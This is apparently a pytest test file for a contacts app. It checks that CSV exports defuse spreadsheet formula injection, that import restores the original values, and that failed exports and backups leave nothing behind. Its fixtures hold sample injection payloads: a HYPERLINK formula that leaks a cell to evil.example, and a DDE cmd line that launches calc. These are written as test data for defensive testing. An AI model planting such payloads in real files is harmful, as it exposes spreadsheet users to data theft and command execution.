"""Exports are safe to open in a spreadsheet, and a failed export or backup leaves nothing behind.

Issue 13: a CSV cell that starts with =, +, -, @, a tab or a carriage return is read by Excel and
LibreOffice as a formula (OWASP "CSV Injection"); the exporter writes it with a leading single quote, and
Rapport's own CSV import takes exactly that quote away again. A write that fails midway (the disk is full,
the folder is read-only) leaves no NAME.partial and says what happened in one plain line.
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from app import paths
from app.accounts import AccountData
from app.contacts import AccountLink, ContactData, Email, Phone
from app.formats import csv_contacts
from app.services import Services
from app.store import Store
from tests.conftest import PROJECT

pytestmark = pytest.mark.faults  # the fault suite: pytest -m faults

RAPPORT = PROJECT / ".venv" / "bin" / "rapport"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# What a card from a hostile server can carry, and what an honest one does (a phone's "+", a "-").
HOSTILE = [
    ContactData(given='=HYPERLINK("http://evil.example/?"&A1;"click")', family="@SUM(1)",
                job_title="+SUM(1+1)", department="-2+3",
                notes="=cmd|' /C calc'!A0\nsecond line",
                phones=(Phone("+1 415 555 0134", label="cell"),),
                emails=(Email("mallory@example.org"),)),
    ContactData(given="''=two quotes", family="'=one quote", nickname="'plain quote",
                notes="\tindented = note", phones=(Phone("+44 20 7946 0018", label="work"),)),
    ContactData(given="Ada", family="Lovelace", notes="-5 dollars owed", job_title="@mention",
                phones=(Phone("+33 1 42 68 53 00"),)),
]
CHECKED = ("given", "family", "nickname", "job_title", "department", "notes")


def rapport(data_dir: Path, *args: str, **kwargs: object) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "RAPPORT_DATA_DIR"}
    return subprocess.run([str(RAPPORT), "--data-dir", str(data_dir), *args], capture_output=True, text=True,
                          encoding="utf-8", env=env, timeout=120, **kwargs)  # type: ignore[call-overload]


def _fill(data_dir: Path) -> list[ContactData]:
    store = Store.open(data_dir)
    try:
        services = Services.build(store)
        account = services.accounts.create(AccountData(name="@Evil Corp")).value
        made = []
        for number, data in enumerate(HOSTILE):
            if number == 0:
                data = ContactData(**{**data.__dict__, "accounts": (AccountLink(account.uid),)})
            record = services.contacts.create(data).value
            services.tags.add("contact", record.uid, "-minus tag" if number == 0 else "=tag")
            made.append(services.contacts.get(record.uid).data)
        return made
    finally:
        store.close()


def _read(data_dir: Path) -> dict[str, ContactData]:
    store = Store.open(data_dir)
    try:
        services = Services.build(store)
        return {r.data.phones[0].value: r.data for r in services.contacts.list(limit=1000)}
    finally:
        store.close()


@pytest.mark.parametrize("fmt", ["csv-google", "csv-outlook"])
def test_csv_export_neutralises_formulas_and_the_import_restores_them(tmp_path: Path, fmt: str) -> None:
    source, again = tmp_path / "source", tmp_path / "again"
    made = _fill(source)
    target = tmp_path / f"export-{fmt}.csv"
    result = rapport(source, "export", "--format", fmt, "-o", str(target))
    assert result.returncode == 0, result.stderr

    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert live == [], f"cells a spreadsheet would run as formulas: {live}"
    # The hostile and the honest values are in the file, each with one quote in front.
    for expected in ["'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "'@SUM(1)", "'+SUM(1+1)", "'-2+3",
                     "'=cmd|' /C calc'!A0\nsecond line", "'+1 415 555 0134", "'''=two quotes", "''=one quote",
                     "'plain quote", "'\tindented = note", "'-5 dollars owed", "'@mention", "'@Evil Corp"]:
        assert expected in cells, (expected, cells)

    back = rapport(again, "import", str(target))
    assert back.returncode == 0, back.stdout + back.stderr
    restored = _read(again)
    assert len(restored) == len(made)
    for original in made:
        copy = restored[original.phones[0].value]  # "+1 415 555 0134" came back with its "+"
        for name in CHECKED:
            assert getattr(copy, name) == getattr(original, name), (name, getattr(copy, name))

    # The round trip is stable: exporting what was imported gives the same file.
    second = tmp_path / f"second-{fmt}.csv"
    assert rapport(again, "export", "--format", fmt, "-o", str(second)).returncode == 0
    with second.open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == rows


def test_tags_and_company_survive_the_round_trip(tmp_path: Path) -> None:
    source, again = tmp_path / "source", tmp_path / "again"
    _fill(source)
    target = tmp_path / "google.csv"
    assert rapport(source, "export", "--format", "csv-google", "-o", str(target)).returncode == 0
    assert rapport(again, "import", str(target)).returncode == 0
    store = Store.open(again)
    try:
        services = Services.build(store)
        tags = sorted({t for r in services.contacts.list(limit=100) for t in services.tags.of("contact", r.uid)})
        names = sorted(r.data.name for r in services.accounts.list(limit=100))
    finally:
        store.close()
    assert tags == ["-minus tag", "=tag"]
    assert names == ["@Evil Corp"]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "''+1", "'x", "x'=", "", "'",
                                   "''", "a=b", "=", "'\t"])
def test_the_quote_scheme_is_exact_both_ways(value: str) -> None:
    """What the writer puts in a cell, the reader takes back to the very same text; nothing else moves."""
    written = csv_contacts.neutralised(value)
    assert not written.startswith(TRIGGERS)
    assert csv_contacts.restored_cell(written) == value
    if not value.lstrip("'").startswith(TRIGGERS) or not value:
        assert written == value  # a cell that needs no quote gets none


def test_a_quote_written_by_another_program_is_read_as_data() -> None:
    # Google's own export writes "'hello" for a value typed so: only a quote before a formula's first
    # character is ours to take away.
    assert csv_contacts.restored_cell("'hello") == "'hello"
    assert csv_contacts.restored_cell("'=1") == "=1"


# --- a write that fails midway: no NAME.partial, one plain line ----------------------------------------------

LIMIT = 200_000  # bytes a file may grow to in the child: the export and the backup need more


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder whose exports and backup are well over LIMIT."""
    folder = tmp_path_factory.mktemp("filled")
    cards = folder / "many.vcf"
    cards.write_text("".join(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nUID:u-{n}\r\nFN:Person {n}\r\nN:{n};Person;;;\r\nTEL:+1 415 555 {n:04}\r\n"
        f"EMAIL:p{n}@example.org\r\nNOTE:{'a long note to make the files bigger ' * 3}\r\nEND:VCARD\r\n"
        for n in range(3000)), encoding="utf-8")
    data = folder / "data"
    made = rapport(data, "import", str(cards))
    assert made.returncode == 0, made.stdout + made.stderr
    return data


def _small_disk() -> None:
    """In the child: files cannot grow past LIMIT, and a write past it fails with EFBIG (not a signal)."""
    import resource
    import signal

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (LIMIT, LIMIT))


def _plain_failure(result: subprocess.CompletedProcess[str]) -> str:
    assert result.returncode == 1, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr and "Error:" not in result.stderr, result.stderr
    [line] = result.stderr.strip().splitlines()
    return line


@pytest.mark.parametrize("fmt", ["vcard4", "vcard3", "csv-google", "csv-outlook"])
def test_an_export_past_the_file_size_limit_leaves_nothing_and_says_so(filled: Path, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / "out" / f"contacts.{fmt}"
    target.parent.mkdir()
    result = rapport(filled, "export", "--format", fmt, "-o", str(target), preexec_fn=_small_disk)
    assert _plain_failure(result) == f"rapport: error: cannot write {target}: File too large"
    assert list(target.parent.iterdir()) == []


def test_an_export_over_a_file_keeps_it_when_the_write_fails(filled: Path, tmp_path: Path) -> None:
    target = tmp_path / "contacts.vcf"
    target.write_text("the previous export\n")
    result = rapport(filled, "export", "--format", "vcard4", "-o", str(target), preexec_fn=_small_disk)
    assert result.returncode == 1
    assert target.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["contacts.vcf"]


def test_a_backup_past_the_file_size_limit_leaves_nothing_and_says_so(filled: Path, tmp_path: Path) -> None:
    backups = filled / "backups"
    before = sorted(backups.iterdir()) if backups.is_dir() else []
    result = rapport(filled, "backup", preexec_fn=_small_disk)
    line = _plain_failure(result)
    # SQLite says "disk I/O error" for EFBIG (it keeps "disk is full" for ENOSPC, which a test cannot
    # cause here without a tiny file system): either is one plain sentence naming the file.
    assert re.fullmatch(rf"rapport: error: (the disk is full: cannot write the backup {re.escape(str(backups))}/\S+"
                        rf"|cannot write the backup {re.escape(str(backups))}/\S+: disk I/O error)", line), line
    assert (sorted(backups.iterdir()) if backups.is_dir() else []) == before

    target = tmp_path / "chosen" / "copy.sqlite3"
    result = rapport(filled, "backup", str(target), preexec_fn=_small_disk)
    assert _plain_failure(result) in (f"rapport: error: the disk is full: cannot write the backup {target}",
                                      f"rapport: error: cannot write the backup {target}: disk I/O error")
    assert list(target.parent.iterdir()) == []

    ok = rapport(filled, "backup", str(target))  # with room, the same backup is made
    assert ok.returncode == 0, ok.stderr
    assert sorted(p.name for p in target.parent.iterdir()) == ["copy.sqlite3"]


def test_a_target_that_cannot_be_written_is_said_plainly(filled: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "a file"
    blocker.write_text("not a folder")
    for args in (["export", "--format", "csv-google", "-o", str(blocker / "x.csv")],
                 ["backup", str(blocker / "x.sqlite3")]):
        line = _plain_failure(rapport(filled, *args))
        assert line.startswith("rapport: error: cannot write") and "Not a directory" in line, line
        assert ".partial" not in line
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a file"]


# A really full disk (ENOSPC): a 64 KB tmpfs mounted in a user and mount namespace of the child's own, where
# a test may mount without being root. The namespace (and the little disk) ends with the child, so the child
# lists the folder itself after rapport has run.

def _can_mount_a_tiny_disk() -> bool:
    probe = 'd=$(mktemp -d) && mount -t tmpfs -o size=64k tmpfs "$d"; s=$?; umount "$d"; rmdir "$d"; exit $s'
    try:
        return subprocess.run(["unshare", "-rm", "sh", "-c", probe], capture_output=True, timeout=20).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        return False


needs_tiny_disk = pytest.mark.skipif(not _can_mount_a_tiny_disk(), reason="cannot mount a tmpfs in a namespace here")


def on_a_full_disk(data_dir: Path, folder: Path, *args: str) -> tuple[str, int, list[str]]:
    """Run rapport with `folder` a 64 KB disk: (its stderr, its exit status, what the folder holds after)."""
    folder.mkdir(parents=True, exist_ok=True)
    env = {k: v for k, v in os.environ.items() if k != "RAPPORT_DATA_DIR"}
    script = ('mount -t tmpfs -o size=64k tmpfs "$1" || exit 99; shift; "$@"; echo "exit=$?" >&2; '
              'ls -A "$FOLDER" | sed "s/^/left: /" >&2')
    result = subprocess.run(["unshare", "-rm", "sh", "-c", script, "sh", str(folder), str(RAPPORT), "--data-dir",
                             str(data_dir), *args], capture_output=True, text=True, timeout=120,
                            env={**env, "FOLDER": str(folder)})
    assert result.returncode == 0, result.stderr
    lines = result.stderr.strip().splitlines()
    status = int(next(line for line in lines if line.startswith("exit="))[5:])
    left = [line[6:] for line in lines if line.startswith("left: ")]
    said = [line for line in lines if not line.startswith(("exit=", "left: "))]
    return "\n".join(said), status, left


@needs_tiny_disk
@pytest.mark.parametrize("fmt", ["vcard4", "csv-outlook"])
def test_an_export_onto_a_full_disk_leaves_nothing_and_says_so(filled: Path, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / "tiny" / "contacts.out"
    said, status, left = on_a_full_disk(filled, target.parent, "export", "--format", fmt, "-o", str(target))
    assert (said, status, left) == (f"rapport: error: the disk is full: cannot write {target}", 1, [])


@needs_tiny_disk
def test_a_backup_onto_a_full_disk_leaves_nothing_and_says_so(filled: Path, tmp_path: Path) -> None:
    target = tmp_path / "tiny" / "copy.sqlite3"
    said, status, left = on_a_full_disk(filled, target.parent, "backup", str(target))
    assert (said, status, left) == (f"rapport: error: the disk is full: cannot write the backup {target}", 1, [])

    said, status, left = on_a_full_disk(filled, paths.backups_dir(filled), "backup")
    assert status == 1 and left == [], (said, left)
    assert re.fullmatch(rf"rapport: error: the disk is full: cannot write the backup "
                        rf"{re.escape(str(paths.backups_dir(filled)))}/rapport-[-0-9]+\.sqlite3", said), said


@needs_tiny_disk
def test_the_full_disk_messages_are_translatable(filled: Path, tmp_path: Path) -> None:
    folder = tmp_path / "tiny"
    folder.mkdir()
    snippet = f"""
import json, sys
from pathlib import Path
from app.backup import BackupService
from app.clock import SystemClock
from app.errors import RapportError
from app.exporting import export_to_file
from app.messages import message_of
from app.services import Services
from app.store import Store
services = Services.build(Store.open(Path({str(filled)!r})))
found = []
for run in (lambda: export_to_file(services, "vcard4", Path({str(folder / "x.vcf")!r})),
            lambda: BackupService(services.store, SystemClock()).backup(Path({str(folder / "x.sqlite3")!r}))):
    try:
        run()
    except RapportError as exc:
        said = message_of(exc)
        found.append([said.template, [str(a) for a in said.args]])
print(json.dumps(found))
"""
    script = 'mount -t tmpfs -o size=64k tmpfs "$1" && cd "$2" && exec "$3" -c "$4"'
    result = subprocess.run(["unshare", "-rm", "sh", "-c", script, "sh", str(folder), str(PROJECT), sys.executable,
                             snippet], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == [["the disk is full: cannot write %1", [str(folder / "x.vcf")]],
                                         ["the disk is full: cannot write the backup %1", [str(folder / "x.sqlite3")]]]
